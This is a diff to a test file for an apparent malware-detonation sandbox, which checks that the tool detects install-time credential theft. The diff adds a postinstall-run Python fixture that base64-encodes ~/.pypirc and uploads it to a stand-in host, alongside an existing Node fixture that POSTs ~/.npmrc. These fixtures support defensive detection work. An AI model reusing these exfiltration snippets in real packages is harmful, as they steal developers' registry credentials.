@@ -160,10 +160,10 @@ setup(name='awssteal', version='1.0.0', py_modules=['awssteal'])
     expect(stream.dst).toEqual({ address: '198.51.100.20', port: 9001 });
   });
 
-  it('postinstall POSTs ~/.npmrc over HTTPS to upload.example (decrypted with the analysis CA)', async () => {
+  it('node POSTs ~/.npmrc and python POSTs ~/.pypirc over HTTPS (decrypted with the analysis CA)', async () => {
     const staged = await stageNpm({
       name: 'npmrc-https',
-      scripts: { postinstall: 'node up.js' },
+      scripts: { postinstall: 'node up.js; python3 up.py' },
       files: {
         'up.js': `
 const https = require('https'), fs = require('fs'), os = require('os');
@@ -174,11 +174,22 @@ const req = https.request({ host: 'upload.example', path: '/u', method: 'POST' }
 req.on('error', (e) => console.log('upload error', e.message));
 req.end(body);
 `,
+        'up.py': `
+import base64, os, urllib.request
+data = base64.b64encode(open(os.path.expanduser('~/.pypirc'), 'rb').read())
+with urllib.request.urlopen(urllib.request.Request('https://py-upload.example/p', data=data, method='PUT'), timeout=5) as r:
+    print('py upload status', r.status)
+`,
         'index.js': 'module.exports = 1;\n',
       },
     });
     const d = await detonate(staged);
     expect(d.phases[0]!.stdoutTail).toContain('upload status 200');
+    expect(d.phases[0]!.stdoutTail).toContain('py upload status 200');
+    const pypirc = report(d, '/.pypirc');
+    expect(pypirc.read).toBe(true);
+    expect(pypirc.evidence[0]).toMatchObject({ channel: 'https', encoding: 'base64', destination: 'py-upload.example' });
+    expect(argvOf(d, pypirc.evidence[0]!.pid)).toContain('up.py');
     const r = report(d, '/.npmrc');
     expect(r.kind).toBe('npmrc');
     expect(r.read).toBe(true);
